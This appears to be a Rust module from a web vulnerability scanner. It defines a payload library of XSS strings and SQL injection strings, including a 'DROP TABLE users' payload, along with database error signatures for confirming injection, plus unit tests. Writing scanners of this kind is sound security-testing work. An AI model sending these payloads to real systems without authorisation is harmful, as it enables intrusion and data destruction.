use serde::{Deserialize, Serialize};

use crate::error::ConfigError;

const XSS_PAYLOADS: &[&str] = &[
    "<script>alert('XSS')</script>",
    "\"><script>alert('XSS')</script>",
    "<img src=x onerror=alert('XSS')>",
    "<svg/onload=alert('XSS')>",
    "'><svg onload=alert(1)>",
    "javascript:alert('XSS')",
    "<body onload=alert('XSS')>",
    "<iframe src=\"javascript:alert('XSS')\"></iframe>",
];

const SQLI_PAYLOADS: &[&str] = &[
    "'",
    "' OR '1'='1",
    "' OR 1=1--",
    "\" OR \"1\"=\"1",
    "1' ORDER BY 100--",
    "' UNION SELECT NULL--",
    "'; DROP TABLE users--",
    "1 AND 1=CONVERT(int, @@version)",
];

// Error fragments leaked by MySQL, PostgreSQL, Oracle, SQLite and MSSQL.
const SQL_ERROR_SIGNATURES: &[&str] = &[
    "SQL syntax",
    "mysql_fetch",
    "mysql_num_rows",
    "Warning: mysql_",
    "MySqlException",
    "valid MySQL result",
    "PostgreSQL query failed",
    "pg_query()",
    "pg_exec()",
    "unterminated quoted string",
    "syntax error at or near",
    "ORA-00933",
    "ORA-01756",
    "ORA-00921",
    "Oracle error",
    "SQLite3::",
    "sqlite3.OperationalError",
    "SQLITE_ERROR",
    "unrecognized token:",
    "Unclosed quotation mark",
    "quoted string not properly terminated",
    "Microsoft OLE DB Provider for SQL Server",
    "SQLSTATE[",
];

/// Attack strings per category plus the response signatures that confirm them.
#[derive(Debug, Clone, PartialEq, Eq, Serialize, Deserialize)]
pub struct PayloadLibrary {
    pub xss: Vec<String>,
    pub sqli: Vec<String>,
    pub sql_errors: Vec<String>,
}

impl Default for PayloadLibrary {
    fn default() -> Self {
        PayloadLibrary {
            xss: to_owned(XSS_PAYLOADS),
            sqli: to_owned(SQLI_PAYLOADS),
            sql_errors: to_owned(SQL_ERROR_SIGNATURES),
        }
    }
}

impl PayloadLibrary {
    pub fn validate(&self) -> Result<(), ConfigError> {
        if self.xss.is_empty() {
            return Err(ConfigError::EmptyPayloads { kind: "XSS" });
        }
        if self.sqli.is_empty() {
            return Err(ConfigError::EmptyPayloads { kind: "SQL injection" });
        }
        if self.sql_errors.is_empty() {
            return Err(ConfigError::EmptyPayloads { kind: "SQL error signature" });
        }
        Ok(())
    }

    pub fn xss_sample(&self, n: usize) -> &[String] {
        &self.xss[..n.min(self.xss.len())]
    }

    pub fn sqli_sample(&self, n: usize) -> &[String] {
        &self.sqli[..n.min(self.sqli.len())]
    }

    /// First database error signature present in `body`, case-insensitive.
    pub fn match_sql_error(&self, body: &str) -> Option<&str> {
        let lower = body.to_lowercase();
        self.sql_errors
            .iter()
            .find(|sig| lower.contains(&sig.to_lowercase()))
            .map(String::as_str)
    }
}

fn to_owned(items: &[&str]) -> Vec<String> {
    items.iter().map(|s| s.to_string()).collect()
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn sample_is_bounded_by_library_size() {
        let lib = PayloadLibrary::default();
        assert_eq!(lib.xss_sample(3).len(), 3);
        assert_eq!(lib.sqli_sample(1000).len(), lib.sqli.len());
    }

    #[test]
    fn sql_error_match_is_case_insensitive() {
        let lib = PayloadLibrary::default();
        let body = "<p>You have an error in your sql SYNTAX near ''</p>";
        assert_eq!(lib.match_sql_error(body), Some("SQL syntax"));
        assert_eq!(lib.match_sql_error("<p>Welcome back</p>"), None);
    }

    #[test]
    fn empty_sub_library_is_a_config_error() {
        let lib = PayloadLibrary { sqli: Vec::new(), ..PayloadLibrary::default() };
        assert!(matches!(lib.validate(), Err(ConfigError::EmptyPayloads { .. })));
    }
}
